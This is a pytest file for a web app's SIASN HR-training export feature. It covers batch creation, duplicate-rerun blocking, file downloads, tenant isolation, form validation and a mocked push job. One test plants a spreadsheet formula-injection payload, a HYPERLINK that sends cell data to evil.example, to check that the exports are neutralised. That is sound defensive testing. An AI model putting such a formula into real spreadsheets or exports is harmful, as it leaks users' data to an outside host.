"""SIASN export pages: preview, batch creation, re-run sends nothing, downloads, codes, mapping."""

from __future__ import annotations

from sqlalchemy import func, select

from app.extensions import db
from app.org.models import Employee
from app.siasn.models import SiasnExportBatch, SiasnMapping, SiasnProfile
from tests.conftest import csrf_token, login
from tests.factories import ROLE_EMAILS
from tests.unit.siasn.factories import configure_siasn, training_year

PARTIAL = {"HX-Request": "true", "HX-Request-Type": "partial"}
YEAR = 2025


def _hr(client) -> str:  # type: ignore[no-untyped-def]
    login(client, ROLE_EMAILS["hr_admin"])
    return csrf_token(client, "/siasn/profile")


def _prepare(app, world, configured: bool = True) -> None:  # type: ignore[no-untyped-def]
    with app.app_context():
        if configured:
            configure_siasn(world.a.id)
        training_year(world, YEAR, [db.session.get(Employee, world.staff.id)])
        db.session.commit()
        db.session.remove()


def test_export_page_full_and_partial_show_what_is_due(app, client, world):
    _prepare(app, world)
    _hr(client)
    page = client.get(f"/siasn?year={YEAR}")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert "<html" in html and 'id="export-panel"' in html
    partial = client.get(f"/siasn?year={YEAR}", headers=PARTIAL)
    body = partial.get_data(as_text=True)
    assert partial.status_code == 200 and "<html" not in body and 'id="export-panel"' in body


def test_refused_records_name_the_missing_field(app, client, world):
    _prepare(app, world, configured=False)
    _hr(client)
    html = client.get(f"/siasn?year={YEAR}").get_data(as_text=True)
    assert "instansiId" in html and "jenisDiklatId" in html


def test_batch_then_rerun_sends_nothing_twice(app, client, world):
    _prepare(app, world)
    token = _hr(client)
    data = {"csrf_token": token, "year": YEAR, "format": "csv"}
    created = client.post("/siasn", data=data)
    assert created.status_code == 303
    batch_url = created.headers["Location"]
    assert "/siasn/batches/" in batch_url
    page = client.get(batch_url)
    assert page.status_code == 200 and "STTPP-" in page.get_data(as_text=True)
    assert client.get(batch_url, headers=PARTIAL).get_data(as_text=True).startswith("\n<section")
    again = client.post("/siasn", data=data)
    assert again.status_code == 422
    assert "Nothing new" in again.get_data(as_text=True) or "Tidak ada" in again.get_data(
        as_text=True
    )
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(SiasnExportBatch)) == 1
    for fmt, kind in (("csv", "text/csv"), ("xlsx", "spreadsheetml"), ("jsonl", "ndjson")):
        download = client.get(f"{batch_url}/download.{fmt}")
        assert download.status_code == 200 and kind in download.mimetype
        assert "attachment" in download.headers["Content-Disposition"]
        download.close()
    assert client.get(f"{batch_url}/download.pdf").status_code == 404


def test_bad_export_input_answers_422(app, client, world):
    token = _hr(client)
    response = client.post("/siasn", data={"csrf_token": token, "year": "1800", "format": "csv"})
    assert response.status_code == 422
    response = client.post(
        "/siasn", data={"csrf_token": token, "year": YEAR, "format": "pdf"}, headers=PARTIAL
    )
    assert response.status_code == 422 and "<html" not in response.get_data(as_text=True)


def test_hr_of_another_instansi_cannot_see_the_batch(app, client, world):
    _prepare(app, world)
    token = _hr(client)
    client.post("/siasn", data={"csrf_token": token, "year": YEAR, "format": "csv"})
    with app.app_context():
        batch_id = db.session.scalar(select(SiasnExportBatch.id))
        from app.accounts.models import Role
        from tests.factories import make_user

        make_user("hr-b@test.example", None, ((Role.HR_ADMIN, world.b.id),), instansi=world.b)
        db.session.commit()
        db.session.remove()
    other = app.test_client()
    login(other, "hr-b@test.example")
    assert other.get(f"/siasn/batches/{batch_id}").status_code == 404
    assert other.get(f"/siasn/batches/{batch_id}/download.csv").status_code == 404


def test_profile_and_mapping_forms_save_and_refuse_bad_input(app, client, world):
    token = _hr(client)
    bad = client.post("/siasn/profile", data={"csrf_token": token, "siasn_instansi_id": ""})
    assert bad.status_code == 422
    bad_partial = client.post(
        "/siasn/profile", data={"csrf_token": token, "siasn_instansi_id": ""}, headers=PARTIAL
    )
    assert bad_partial.status_code == 422 and 'id="profile-form"' in bad_partial.get_data(
        as_text=True
    )
    saved = client.post(
        "/siasn/profile",
        data={"csrf_token": token, "siasn_instansi_id": "ABC 123", "lokasi_id": "L1"},
    )
    assert saved.status_code == 303
    assert client.get("/siasn/mappings", headers=PARTIAL).status_code == 200
    form = client.get("/siasn/mappings/workshop")
    assert form.status_code == 200
    assert client.get("/siasn/mappings/workshop", headers=PARTIAL).status_code == 200
    too_long = client.post(
        "/siasn/mappings/workshop", data={"csrf_token": token, "jenis_kursus": "x" * 41}
    )
    assert too_long.status_code == 422
    mapped = client.post(
        "/siasn/mappings/workshop",
        data={"csrf_token": token, "jenis_diklat_id": "2", "jenis_kursus": "WS"},
    )
    assert mapped.status_code == 303
    assert client.get("/siasn/mappings/unknown-key").status_code == 404
    with app.app_context():
        profile = db.session.scalar(select(SiasnProfile))
        assert profile.siasn_instansi_id == "ABC123" and profile.instansi_id == world.a.id
        mapping = db.session.scalar(select(SiasnMapping))
        assert (mapping.key, mapping.jenis_diklat_id, mapping.jenis_kursus) == (
            "workshop",
            "2",
            "WS",
        )


def test_downloads_are_formula_safe(app, client, world):
    from tests.web.test_export_injection import assert_csv_inert, assert_xlsx_inert

    _prepare(app, world)
    with app.app_context():
        from app.training.models import TrainingProgram

        program = db.session.scalar(select(TrainingProgram))
        program.title = '=HYPERLINK("http://evil.example/?"&A2,"Klik")'
        program.provider_name = "@SUM(1+1)"
        db.session.commit()
        db.session.remove()
    token = _hr(client)
    batch_url = client.post("/siasn", data={"csrf_token": token, "year": YEAR, "format": "csv"})
    url = batch_url.headers["Location"]
    assert_csv_inert(client.get(f"{url}/download.csv").get_data(as_text=True))
    xlsx = client.get(f"{url}/download.xlsx")
    assert_xlsx_inert(xlsx.data)
    xlsx.close()


def test_push_button_queues_the_job_and_the_lines_show_siasn_s_answer(app, client, world):
    from tests.unit.siasn.fake_siasn import fake_siasn

    _prepare(app, world)
    token = _hr(client)
    url = client.post("/siasn", data={"csrf_token": token, "year": YEAR, "format": "csv"}).headers[
        "Location"
    ]
    assert f"{url}/push" not in client.get(url).get_data(as_text=True)
    off = client.post(f"{url}/push", data={"csrf_token": token})
    assert off.status_code == 303 and off.headers["Location"].endswith(url)
    with fake_siasn() as (settings, state):
        app.config["SIASN_SETTINGS"] = settings
        try:
            assert f"{url}/push" in client.get(url).get_data(as_text=True)
            pushed = client.post(f"{url}/push", data={"csrf_token": token})
            assert pushed.status_code == 303 and "/jobs/" in pushed.headers["Location"]
            assert len(state.saved) == 1
        finally:
            del app.config["SIASN_SETTINGS"]
    assert "RW-1" in client.get(url).get_data(as_text=True)
